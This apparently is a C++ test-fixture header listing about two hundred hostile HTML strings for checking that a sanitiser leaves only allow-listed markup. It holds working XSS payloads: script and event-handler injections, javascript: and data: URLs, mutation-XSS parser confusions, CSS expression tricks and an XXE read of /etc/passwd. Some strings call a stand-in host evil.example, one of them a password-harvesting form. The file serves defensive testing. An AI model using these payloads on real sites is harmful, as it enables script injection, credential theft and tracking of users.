// Markup that has run scripts, hidden text or confused a sanitiser somewhere. None of it may leave more than the
// allow-list behind.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace tongyuan {

inline const std::vector<std::string_view>& hostile_markup()
{
    static const std::vector<std::string_view> all{
        // scripts, plainly and in disguise
        "<script>alert(1)</script>", "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>", "<ScRiPt>alert(1)</sCrIpT>",
        "<script/x>alert(1)</script>", "<script\t>alert(1)</script\t>", "<script\n>alert(1)</script\n>",
        "<script>alert(1)//", "<script><!--<script></script>--><img src=x onerror=alert(1)></script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1);//<</script>",
        "<<script></script>img src=x onerror=alert(1)>", "<script>/*</script><script>*/alert(1)</script>",
        "<p><script>alert(1)</script>text</p>", "<script type=\"text/vbscript\">MsgBox 1</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<noscript><style></noscript><img src=x onerror=alert(1)>",
        // handlers
        "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<img/src=x/onerror=alert(1)>",
        "<img src=\"media:x\" onload=\"alert(1)\">", "<img \"\"\"><script>alert(1)</script>\"\\>",
        "<p onclick=alert(1)>x</p>", "<p ONCLICK='alert(1)'>x</p>",
        "<p on\xe2\x80\x8b"
        "click=alert(1)>x</p>",
        "<div onmouseover=alert(1)>x</div>", "<td onmouseenter=alert(1)>x</td>",
        "<table><td onmouseenter=alert(1) colspan=\"2 onclick=x\">x</table>", "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>x", "<marquee onstart=alert(1)>x</marquee>",
        "<h1 onfocus=alert(1) tabindex=1 autofocus>x</h1>",
        "<strong onanimationstart=alert(1) style=animation-name:x>x</strong>", "<p/onclick=alert(1)//>x",
        "<a href=\"http://a.example\"onmouseover=alert(1)>x</a>",
        "<a href='http://a.example/' onclick='alert(1)'>x</a>",
        // addresses
        "<a href=javascript:alert(1)>x</a>", "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>", "<a href=\"javascript&#58;alert(1)\">x</a>",
        "<a href=\"\x01javascript:alert(1)\">x</a>", "<a href=\"\xc2\xa0javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"blob:http://a.example/1\">x</a>", "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"//evil.example/\">x</a>", "<a href=\"\\\\evil.example\\share\">x</a>",
        "<a href=\"http:\\\\evil.example\">x</a>", "<a href=\"http:evil.example\">x</a>",
        "<a href=\"https://good.example@evil.example/\">x</a>",
        "<a href=\"https://good.example\\@evil.example/\">x</a>",
        "<a href=\"https://good.example%2f@evil.example/\">x</a>",
        "<a href=\"https://ev\xe2\x80\xaeil.example/\">x</a>", "<a href=\"https://a.example/'onclick='alert(1)\">x</a>",
        "<a href=\"https://a.example/&quot;onclick=&quot;alert(1)\">x</a>",
        "<a href=\"https://a.example/&lt;script&gt;\">x</a>", "<a href=\"/relative\">x</a>",
        "<a href=\"#anchor\">x</a>", "<a href=\"\">x</a>", "<a name=x id=y>x</a>", "<a href=\"media:short\">x</a>",
        "<a href=\"media:ZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZ\">x</a>",
        "<a href=\"mailto:\">x</a>", "<a href=\"mailto:a@b.example?subject=<script>\">x</a>",
        "<a href=\"https://a.example/\" target=_blank ping=http://evil.example>x</a>",
        "<a xlink:href=\"javascript:alert(1)\">x</a>", "<a href=\"feed:javascript:alert(1)\">x</a>",
        "<a href=\"view-source:javascript:alert(1)\">x</a>",
        // pictures from elsewhere
        "<img src=http://evil.example/track.gif>", "<img src=//evil.example/track.gif>",
        "<img src=data:image/png;base64,AAAA>", "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<img src=file:///C:/Users/x/Temp/clip_image002.jpg>", "<img src=cid:image001.png@01D>",
        "<img src=javascript:alert(1)>", "<img srcset=\"http://evil.example/a 1x\" src=>", "<img>",
        "<image src=http://evil.example/x onerror=alert(1)>",
        "<picture><source srcset=http://evil.example/x><img src=http://evil.example/y></picture>",
        "<input type=image src=http://evil.example/x onerror=alert(1)>", "<body background=http://evil.example/x>",
        "<table background=\"javascript:alert(1)\"><tr><td background=http://evil.example/x>x</table>",
        // styles
        "<p style=\"background:url(javascript:alert(1))\">x</p>", "<p style=\"width:expression(alert(1))\">x</p>",
        "<p style=\"text-align:center;background:url(http://evil.example/)\">x</p>",
        "<p style=\"text-align:center}body{display:none\">x</p>", "<p style=\"text-align:\\63 enter\">x</p>",
        "<p style=\"text-align:center&quot; onclick=&quot;alert(1)\">x</p>",
        "<p style=\"color:white;background:white\">hidden</p>", "<p style=\"display:none\">hidden</p>",
        "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">cover</p>",
        "<p style=\"font-size:0\">hidden</p>", "<p style='-moz-binding:url(http://evil.example/x.xml#x)'>x</p>",
        "<style>@import 'http://evil.example/x.css';</style><p>x",
        "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
        "<link rel=stylesheet href=http://evil.example/x.css>", "<p style=\"text-align:center;/*\" title=\"*/\">x</p>",
        // frames, objects, forms
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
        "<frameset><frame src=javascript:alert(1)></frameset>",
        "<object data=data:text/html,<script>alert(1)</script>></object>", "<embed src=javascript:alert(1)>",
        "<applet code=x archive=http://evil.example/x.jar></applet>",
        "<form action=http://evil.example/><input name=password><button>登录</button></form>",
        "<form><button formaction=javascript:alert(1)>x</button></form>",
        "<isindex action=javascript:alert(1) type=submit>", "<textarea><script>alert(1)</script></textarea>",
        "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
        "<title><img src=\"</title><img src=x onerror=alert(1)>\"></title>",
        "<select><option><script>alert(1)</script></option></select>",
        "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
        "<audio src=http://evil.example/x.mp3 autoplay>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<base href=http://evil.example/><a href=x>x</a>", "<dialog open>x</dialog>",
        "<portal src=http://evil.example/></portal>", "<keygen autofocus onfocus=alert(1)>",
        "<command onclick=alert(1)>",
        // foreign content and the confusions it is good for
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text x=0 y=20>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">", "<svg/onload=alert(1)//",
        "<svg><title><a href=\"</title><img src=x onerror=alert(1)>\"></svg>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><annotation-xml encoding=\"text/html\"><style></math><img src=x onerror=alert(1)></style>",
        "<math href=\"javascript:alert(1)\">x</math>", "<table><svg><select><foreignObject><select><table>",
        "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>", "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<template><script>alert(1)</script></template>",
        "<template><p id=\"</template><img src=x onerror=alert(1)>\">",
        // comments, declarations and raw text
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<!--><img src=x onerror=alert(1)>-->",
        "<!---><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)> -->",
        "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
        "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><p>&x;</p>",
        "<?xml version=\"1.0\"?><?xml-stylesheet href=\"javascript:alert(1)\"?><p>x</p>",
        "<?<a b=\"><script>alert(1)</script>\">", "<! foo=\"><script>alert(1)</script>\">",
        "</ foo=\"><script>alert(1)</script>\">", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<plaintext><script>alert(1)</script>",
        "<noembed><img src=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<noframes><img src=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
        "<listing>&lt;img onerror=\"alert(1)\" src=test&gt;</listing>",
        // what is text must stay text
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)",
        "<p>&lt;img src=x onerror=alert(1)&gt;</p>", "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3c;img src=x onerror=alert(1)&#x3e;", "&l<!-- -->t;script&gt;alert(1)",
        "<p>]]><script>alert(1)</script></p>", "<pre>&lt;script&gt;</pre>", "<code><script>alert(1)</script></code>",
        "<p>1 < 2 && 3 > 2 <b</p>", "<p>{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= x %></p>",
        // structure
        "<p><p><div><p></div></p></p>", "<b><i></b>x</i>",
        "<a href=http://a.example/><a href=http://b.example/>x</a></a>",
        "<a href=http://a.example/><p>x</p><table><tr><td><a href=http://b.example/>y",
        "<table><a href=http://a.example/>x<tr><td></a>y</table>", "<table><tr><td><table><tr><td>x",
        "<ul>x<p>y<li>z</ul>", "<li>alone<li>again", "<h1><h2>x</h2></h1>", "<pre>\n\n<p>x</p></pre>",
        "<strong><p>x</p><ul><li>y</strong></ul>", "<td>no table</td><tr>nor row", "<caption>no table</caption>",
        "<body><html><head><p>x</p></head></html></body>", "<o:p></o:p><st1:place w:st=\"on\">x</st1:place>",
        "<x-y onclick=alert(1)><custom-element>x</custom-element>", "<p \xe2\x80\xa8onclick=alert(1)>x</p>",
        "<img src=media:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa "
        "alt='\"><script>alert(1)</script>'>",
        "<img src=media:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa alt=\"' onerror='alert(1)\">",
        "<table><td colspan=\"99999999999999999999\" rowspan=-1>x</table>",
        "<table><td colspan=0 rowspan=\"1e3\">x</table>", "\xef\xbb\xbf<script>alert(1)</script>",
        "<p>\xe2\x80\xae"
        "gnp.exe</p>",
        "<p>\xe2\x81\xa6"
        "a\xe2\x81\xa9\xe2\x80\x8b</p>",
        "<p title='</p><script>alert(1)</script>'>x", "<p =\"x\" onclick=\"alert(1)\">x",
        "<p a=\"b\"c=\"d\"onclick=\"alert(1)\">x", "<p a='>' onclick=alert(1)>x", "<p a=`x` onclick=alert(1)>x",
        "<a href=http://a.example/ href=javascript:alert(1)>x</a>",
        "<a href=javascript:alert(1) href=http://a.example/>x</a>"};
    return all;
}

} // namespace tongyuan
